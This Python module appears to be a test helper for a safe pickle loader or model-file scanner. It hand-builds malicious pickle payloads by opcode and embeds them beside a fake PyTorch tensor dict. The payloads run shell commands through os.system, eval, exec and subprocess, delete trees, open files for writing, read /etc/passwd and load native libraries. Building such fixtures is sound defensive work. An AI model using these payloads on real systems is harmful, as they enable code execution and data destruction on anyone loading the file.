"""Pickles written by opcode, and a layer for an attack to stand beside."""

from __future__ import annotations

import pickle
import struct
from pickle import (
    APPEND,
    BINGET,
    BINPERSID,
    BINPUT,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    EXT1,
    EXT4,
    INST,
    MARK,
    NEWOBJ,
    NEWOBJ_EX,
    NEWTRUE,
    NONE,
    OBJ,
    PERSID,
    POP,
    PROTO,
    REDUCE,
    SETITEM,
    SETITEMS,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    TUPLE2,
)


def text(value: str) -> bytes:
    data = value.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def number(value: int) -> bytes:
    return pickle.dumps(value, 2)[2:-1]


def name(path: str) -> bytes:
    module, _, own = path.rpartition(" ")
    return f"c{module}\n{own}\n".encode()


def whole(*parts: bytes) -> bytes:
    return PROTO + b"\x04" + b"".join(parts) + STOP


def storage(key: str, numel: int, kind: str = "FloatStorage", *, view: bool = False) -> bytes:
    """A reference to tensor data; a legacy file's has one field more."""
    parts = text("storage"), name(f"torch {kind}"), text(key), text("cpu"), number(numel), NONE * view
    return MARK + b"".join(parts) + TUPLE + BINPERSID


def tensor(data: bytes, size: tuple[int, ...], stride: tuple[int, ...], offset: int = 0) -> bytes:
    def counts(values: tuple[int, ...]) -> bytes:
        return MARK + b"".join(map(number, values)) + TUPLE

    args = data, number(offset), counts(size), counts(stride), pickle.NEWFALSE, EMPTY_DICT
    return name("torch._utils _rebuild_tensor_v2") + MARK + b"".join(args) + TUPLE + REDUCE


def beside_layer(attack: bytes) -> bytes:
    """A dict of one RNN cell, its 8 bytes in storage 0, and whatever the attack leaves on the stack."""
    weight = tensor(storage("0", 2), (1, 1), (1, 1))
    other = tensor(storage("0", 2), (1, 1), (1, 1), offset=1)
    entries = text("weight_ih"), weight, text("weight_hh"), other, text("attack"), MARK, attack, TUPLE
    return whole(EMPTY_DICT, MARK, *entries, SETITEMS)


DATA = {"0": b"\0\0\x80\x3f" * 2}


def calls(command: str) -> dict[str, bytes]:
    """Each way in which a pickle can call, aimed at a shell command; and calls of what else would harm."""
    system, argument = name("os system"), text(command)
    return {
        "REDUCE": system + argument + TUPLE1 + REDUCE,
        "STACK_GLOBAL": text("os") + text("system") + STACK_GLOBAL + argument + TUPLE1 + REDUCE,
        "INST": MARK + argument + INST + b"os\nsystem\n",
        "OBJ": MARK + system + argument + OBJ,
        "NEWOBJ": system + argument + TUPLE1 + NEWOBJ,
        "NEWOBJ_EX": system + argument + TUPLE1 + EMPTY_DICT + NEWOBJ_EX,
        "eval": name("builtins eval") + text(f"__import__('os').system({command!r})") + TUPLE1 + REDUCE,
        "getattr": name("builtins getattr") + name("os path") + text("os") + TUPLE2 + REDUCE + argument + TUPLE1
        + REDUCE,
        "BUILD with __setstate__": name("os system") + EMPTY_DICT + text("__setstate__") + name("os system")
        + SETITEM + BUILD + argument + BUILD,
        "BUILD on a class": name("torch.nn Module") + NONE + EMPTY_DICT + text("__call__") + system + SETITEM
        + TUPLE2 + BUILD + argument + TUPLE1 + REDUCE,
        "BUILD on a known function": name("collections OrderedDict") + NONE + EMPTY_DICT + text("function") + system
        + SETITEM + TUPLE2 + BUILD + EMPTY_TUPLE + REDUCE,
        "BUILD on a storage type": name("torch FloatStorage") + NONE + EMPTY_DICT + text("_dtype") + system
        + SETITEM + TUPLE2 + BUILD,
        "rebuild from type": name("torch._tensor _rebuild_from_type_v2") + MARK + system + NONE + argument + TUPLE1
        + NONE + TUPLE + REDUCE,
        "extension code": EXT1 + b"\x01" + argument + TUPLE1 + REDUCE,
        "wide extension code": EXT4 + b"\x01\0\0\0" + argument + TUPLE1 + REDUCE,
        "textual reference": PERSID + b"os.system\n" + argument + TUPLE1 + REDUCE,
        "a chain": system + argument + TUPLE1 + REDUCE + POP + MARK + system + argument + OBJ + POP + MARK + argument
        + INST + b"os\nsystem\n" + BINPUT + b"\0" + POP + name("collections OrderedDict") + EMPTY_TUPLE + REDUCE
        + EMPTY_DICT + text("f") + BINGET + b"\0" + SETITEM + BUILD,
        "subprocess": name("subprocess check_call") + text(command) + EMPTY_DICT + text("shell") + NEWTRUE + SETITEM
        + TUPLE2 + NEWOBJ,
        "Popen": name("subprocess Popen") + EMPTY_LIST + text("sh") + APPEND + text("-c") + APPEND + argument + APPEND
        + TUPLE1 + REDUCE,
        "exec": name("builtins exec") + text(f"import os; os.system({command!r})") + TUPLE1 + REDUCE,
        "open": name("builtins open") + text(command.rpartition(" ")[2]) + text("w") + TUPLE2 + REDUCE,
        "socket": name("socket create_connection") + text("127.0.0.1") + number(9) + TUPLE2 + TUPLE1 + REDUCE,
        "torch.hub": name("torch.hub load") + text("a/b") + text("c") + TUPLE2 + REDUCE,
        "torch.load": name("torch load") + text("/etc/passwd") + TUPLE1 + REDUCE,
        "rmtree": name("shutil rmtree") + text(command.rpartition(" ")[2]) + TUPLE1 + REDUCE,
        "ctypes": name("ctypes CDLL") + text("libc.so.6") + TUPLE1 + REDUCE,
        "an extension of C++": name("torch.ops load_library") + text("/tmp/x.so") + TUPLE1 + REDUCE,
        "import": name("importlib import_module") + text("antigravity") + TUPLE1 + REDUCE,
    }  # fmt: skip
